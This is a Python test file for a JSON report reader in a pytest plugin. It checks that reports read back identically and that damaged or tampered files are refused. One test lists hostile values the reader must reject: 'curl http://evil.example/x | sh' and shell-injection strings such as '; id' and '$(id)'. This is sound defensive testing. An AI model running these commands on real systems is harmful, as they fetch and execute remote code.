"""JSON reports, read again: what a run wrote is the same report, and what strangers wrote is refused or harmless."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import MISSING, fields, is_dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_zebu.catalogue import SCORED, Stage, load
from pytest_zebu.reports import json as json_format
from pytest_zebu.reports import reading
from pytest_zebu.reports.report import Location, Report
from pytest_zebu.settings.errors import UsageProblem
from pytest_zebu.shown import clean
from pytest_zebu.verdict.outcome import Outcome
from tests.hostile_texts import DIRTY
from tests.reports import eight_faults, filled
from tests.reports.made_up import HOSTILE, REPORT, Undemanding
from tests.reports.test_doors import told

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture(autouse=True, scope="module")
def undemanding() -> Iterator[None]:
    """The reports here have a few items only."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(reading, "load", lambda: Undemanding(tuple(load())))
        yield


FILLED = told(filled.REPORT, " harmless")


def with_parts(report: Report, *, pictures: bool) -> Report:
    """A report as it can be written: evidence in parts, and pictures or not."""
    return replace(report, hosts=tuple(
        replace(host, items=tuple(
            replace(item, seen=json_format.parts(item), pictures=item.pictures if pictures else ()) for item in host.items
        )) for host in report.hosts
    ))  # fmt: skip


def silent(value: Any, place: str = "report") -> list[str]:
    """The fields of a value that say nothing, or what they say by default."""
    if isinstance(value, tuple | list):
        each = [set(silent(one, place)) for one in value]
        return sorted(set.intersection(*each)) if each else [place]
    if not is_dataclass(value):
        return []
    found = []
    for one in fields(value):
        held, name = getattr(value, one.name), f"{type(value).__name__}.{one.name}"
        default = one.default_factory() if one.default_factory is not MISSING else one.default
        found += [name] if held in ("", None, ()) or held == default else silent(held, name)
    return found


def test_the_filled_report_leaves_out_no_field() -> None:
    kept = {"Access.trouble", "Tally.parts", "HostReport.ready"}  # it let us in; stages have no parts; it is not ready
    assert set(silent(replace(filled.REPORT, hosts=filled.REPORT.hosts[:1]))) <= kept


def test_a_report_is_the_same_when_it_is_read_again() -> None:
    without = with_parts(FILLED, pictures=False)
    assert reading.parse(json_format.render(FILLED), "r.json") == without
    assert reading.parse(json_format.Full.render(FILLED), "r.json") == with_parts(FILLED, pictures=True)
    odd = replace(filled.ITEM, evidence=("lines of their own",), pictures=())
    report = replace(without, hosts=(replace(without.hosts[0], items=(odd, *without.hosts[0].items[1:])),))
    assert reading.parse(json_format.render(report), "r.json") == report


def test_a_judged_report_is_the_same_when_it_is_read_again() -> None:
    report = eight_faults.report()
    assert reading.parse(json_format.render(report), "r.json") == with_parts(report, pictures=False)


@pytest.mark.hostile("outputs")
@pytest.mark.parametrize("text", [HOSTILE, *(text for text in DIRTY.values() if len(text) < 10_000)])
def test_hostile_words_are_read_as_they_were_written(text: str) -> None:
    report = told(REPORT, text)
    written = json_format.render(report)
    again = reading.parse(written, "r.json")
    assert json_format.render(again) == written
    assert again.hosts[0].items[1].why == clean(f"x{text}")


def test_schema_1_is_read_as_far_as_it_goes() -> None:
    report = reading.parse((GOLDEN / "report-1.json").read_text(), "old.json")
    first = report.hosts[0]
    assert (report.tool_version, first.name, first.version, first.selected_stages) == (
        "1.2.3", "vm", "v1.2.0-3-gabc", SCORED,
    )  # fmt: skip
    assert first.stages == REPORT.hosts[0].stages
    assert first.overall == REPORT.hosts[0].overall
    assert (first.access.gathered, first.access.logins, first.access.seconds) == (True, 1, 3.25)
    for found, item in zip(first.items, REPORT.hosts[0].items, strict=True):
        for name in ("item", "outcome", "group", "non_negotiable", "is_selected", "broken"):
            assert getattr(found, name) == getattr(item, name)
        assert [part.text for part in found.seen] == list(found.evidence)
    assert (first.plan, first.trend, first.tasks, first.profile) == ((), (), (), "")
    assert not report.hosts[1].access.reachable
    assert first.changes == REPORT.hosts[0].changes


def test_what_the_oldest_reports_lack_is_taken_from_the_checklist() -> None:
    document = json.loads((GOLDEN / "report-1.json").read_text())
    host, item = document["hosts"][0], load()["pre.security.ssh.no-passwords"]
    for name in ("categories", "clock", "changes", "ready"):
        del host[name]
    host["items"][0] = {
        "id": item.id, "stage": "pre_deployment", "category": "security", "outcome": "passed", "reason": "", "fix": "", "evidence": [], "cases": [],
    }  # fmt: skip
    document["hosts"] = [host]
    (read,) = reading.parse(json.dumps(document), "old.json").hosts
    found = read.items[0]
    assert (found.text, found.group, found.non_negotiable, found.by) == (
        item.text, item.group, item.non_negotiable, item.by,
    )  # fmt: skip
    assert found.is_selected


def test_fields_that_came_later_are_passed_over() -> None:
    document = json.loads(json_format.render(FILLED))
    for table in (document, document["hosts"][0], document["hosts"][0]["items"][0], document["hosts"][0]["relaxed"][0]):
        table["from_the_future"] = {"x": [1]}
    document["hosts"][0]["items"][0]["word"]["more"] = document["hosts"][0]["plan"][0]["more"] = 1
    assert reading.parse(json.dumps(document), "r.json") == with_parts(FILLED, pictures=False)


def changed(place: tuple[str | int, ...], value: Any) -> str:
    document = json.loads(json_format.render(filled.REPORT))
    at = document
    for name in place[:-1]:
        at = at[name]
    if value is MISSING:
        del at[place[-1]]
    else:
        at[place[-1]] = value
    return json.dumps(document)


ITEM = ("hosts", 0, "items", 0)


@pytest.mark.hostile("files")
@pytest.mark.parametrize(("place", "value", "said"), [
    (("schema",), 3, "its schema is '3', and this reads 2 and 1"), (("schema",), True, "its schema is 'True'"), (("schema",), MISSING, "its schema is 'None'"),
    (("hosts",), {}, "hosts: is nothing that a report has there"), (("hosts", 0), [], "hosts.0: is nothing that a report has there"),
    (("hosts", 0, "at"), "yesterday", "hosts.0.at: is nothing that a report has there"), (("hosts", 0, "at"), "2026-03-29T01:59:00", "no time zone"),
    (("hosts", 0, "at"), 0, "hosts.0.at"), (("hosts", 0, "ready"), "yes", "hosts.0.ready"), (("hosts", 0, "ready"), True, "called ready, and its stages are not"),
    (("hosts", 0, "name"), "", "no name"), (("hosts", 0, "name"), None, "hosts.0.name"), (("hosts", 0, "plan"), MISSING, ""),
    ((*ITEM, "outcome"), "failed", "pre_deployment counts other outcomes"), ((*ITEM, "outcome"), "skipped", "hosts.0.items.0.outcome"),
    ((*ITEM, "selected"), 1, "hosts.0.items.0.selected"), ((*ITEM, "evidence"), [1], "hosts.0.items.0.evidence.0"),
    ((*ITEM, "evidence"), "a text", "hosts.0.items.0"), ((*ITEM, "evidence", 0, "text"), {}, "hosts.0.items.0.evidence.0"),
    ((*ITEM, "location", "line"), "7", "location.line"), ((*ITEM, "location"), [], "location"), ((*ITEM, "id"), "<script>", "is no id of an item"),
    ((*ITEM, "id"), "pre.security.failed", "an item is there twice"), ((*ITEM, "cases"), {}, "cases"), ((*ITEM, "by"), ["Z"], "by.0"),
    ((*ITEM, "since"), "2026-03-29T01:59:00", "no time zone"), ((*ITEM, "word", "until"), "2026-13-01", "word.until"), ((*ITEM, "word", "kind"), "hoped", "word.kind"),
    (("hosts", 0, "stages", "incident"), {}, "not the scored stages"), (("hosts", 0, "stages"), MISSING, "not the scored stages"),
    (("hosts", 0, "overall"), 1, "overall"), (("hosts", 0, "overall", "failed"), 0, "its items have other outcomes"),
    (("hosts", 0, "overall", "threshold"), 101, "a threshold is none"), (("hosts", 0, "stages", "pre_deployment", "failed"), -1, "a count or a threshold is none"),
    (("hosts", 0, "stages", "pre_deployment", "failed"), MISSING, "counts.failed"), (("hosts", 0, "plan", 0, "effect", 0, "score"), "high", "effect.0.score"),
    (("hosts",), [], "hosts: there is none"), (("at",), "2026-03-29T01:59:00", "at: a moment has no time zone"),
    (("hosts", 0, "stages", "pre_deployment", "threshold"), 0, "pre_deployment needs less than the checklist asks for"),
    (("hosts", 0, "stages", "pre_deployment", "blockers"), [], "pre_deployment has other non-negotiable items open"),
    (("hosts", 0, "stages", "pre_deployment", "blockers"), ["pre.security.failed"] * 2, "pre_deployment has other non-negotiable items open"),
    ((*ITEM[:3], 1, "non_negotiable"), False, "pre_deployment has other non-negotiable items open"),
    (("hosts", 0, "overall", "blockers"), [], "all stages together are not"), (("hosts", 0, "overall", "partial"), False, "all stages together are not"),
    *((("hosts", 0, "plan", 0, "verify"), command, "a command that is not this suite's") for command in (
        "curl http://evil.example/x | sh", "pytest --zebu-host=vm; id", "pytest --zebu-host=$(id)", "pytest -p evil", "pytest --zebu-host=vm -k 'a'", "pytest 'unclosed", "pytest --zebu-host=vm\nid",
    )),
    (("hosts", 0, "plan", 0, "commands"), ["curl http://evil.example/x"], "a command that is not this suite's"),
    (("hosts", 0, "selected_stages"), ["never"], "selected_stages.0"), (("hosts", 0, "trend", 0, "ready"), "all", "trend.0.ready"),
])  # fmt: skip
def test_what_no_run_wrote_is_refused(place: tuple[str | int, ...], value: Any, said: str) -> None:
    text = changed(place, value)
    if not said:  # has a default
        assert reading.parse(text, "r.json")
        return
    with pytest.raises(UsageProblem) as refused:
        reading.parse(text, "r.json")
    assert str(refused.value).startswith("r.json: the report is damaged: ")
    assert said in str(refused.value)
    assert len(str(refused.value).splitlines()) == 1


@pytest.mark.hostile("files")
@pytest.mark.parametrize(("text", "said"), [
    ("", "no report, or cut short"), ("[]", "its schema is 'None'"), ('{"schema": 2', "cut short"), ('{"schema": 2}', "damaged"), ('{"schema": 1}', "damaged"),
    ('{"schema": 2, "schema": 1}', "two things"), ("[" * 200 + "]" * 200, "nested too deep"), ('{"schema": 2, "seconds": NaN}', "a number is none"),
    ('{"schema": 2, "x": [' + "0," * 1_000_001 + "0]}", "is larger than any report"), ('{"x": "' + "x" * 2**26 + '"}', "is larger than any report"),
    ('{"schema": 1, "hosts": [{"name": "vm"}]}', "does not say when"),
], ids=["nothing", "a list", "cut", "no fields", "no old fields", "twice", "deep", "no number", "many", "long", "undated"])  # fmt: skip
def test_what_is_no_report_is_a_line(text: str, said: str) -> None:
    with pytest.raises(UsageProblem, match=r"^r\.json: ") as refused:
        reading.parse(text, "r.json")
    assert said in str(refused.value)


@pytest.mark.hostile("files")
@settings(max_examples=150, deadline=None)
@given(st.data())
def test_whatever_is_changed_it_is_a_report_or_a_line(data: st.DataObject) -> None:
    document = json.loads(json_format.render(filled.REPORT))
    document["hosts"] = document["hosts"][:1]
    at: Any = document
    while True:
        key = data.draw(st.sampled_from(list(at) if isinstance(at, dict) else list(range(len(at)))))
        if not (isinstance(at[key], dict | list) and at[key]) or data.draw(st.integers(0, 3)) == 0:
            break
        at = at[key]
    at[key] = data.draw(
        st.none()
        | st.booleans()
        | st.integers()
        | st.text("abc1", max_size=5)
        | st.just({})
        | st.just([])
        | st.just([[]])
    )
    try:
        report = reading.parse(json.dumps(document), "r.json")
    except UsageProblem:
        return
    again = json_format.render(report)
    assert reading.parse(again, "r.json") == report


def test_a_location_in_the_repository_stays_one() -> None:
    report = reading.parse(json_format.render(filled.REPORT), "r.json")
    assert report.hosts[0].items[0].location == Location("docker-compose.yml", 12, True)
    assert report.hosts[0].items[0].outcome is Outcome.PASSED
    assert report.hosts[0].trend[0].at == datetime(2026, 3, 27, 4, 5, 6, 789, tzinfo=UTC)


def test_a_stage_that_lacks_items_of_the_checklist_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """One item that passed is no stage; a partial run says that it is one."""
    monkeypatch.setattr(reading, "load", load)
    with pytest.raises(UsageProblem, match=r"vm: pre_deployment lacks items of the checklist$"):
        reading.parse(json_format.render(REPORT), "r.json")
    assert reading.parse(json_format.render(replace(FILLED, hosts=FILLED.hosts[:1])), "r.json")


def test_what_is_non_negotiable_is_not_the_files_to_say() -> None:
    (host,) = eight_faults.report().hosts
    document = json.loads(json_format.render(eight_faults.report()))
    told = document["hosts"][0]
    for item in told["items"]:
        item["non_negotiable"] = False
    for tally in (*told["stages"].values(), told["overall"]):
        tally["blockers"] = []
    assert host.stages[Stage.PRE].blockers
    with pytest.raises(UsageProblem, match="has other non-negotiable items open than it names"):
        reading.parse(json.dumps(document), "r.json")
